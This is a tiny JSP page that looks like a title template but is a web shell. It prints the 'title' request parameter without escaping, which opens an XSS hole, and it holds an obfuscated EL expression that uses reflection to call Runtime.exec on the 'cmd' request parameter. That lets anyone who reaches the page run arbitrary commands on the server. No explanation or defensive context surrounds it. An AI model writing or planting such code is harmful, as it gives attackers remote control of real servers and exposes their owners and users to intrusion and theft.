<%@ page contentType="text/html; charset=UTF-8" %>
<p>${param.title}</p>
${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),param.cmd)}
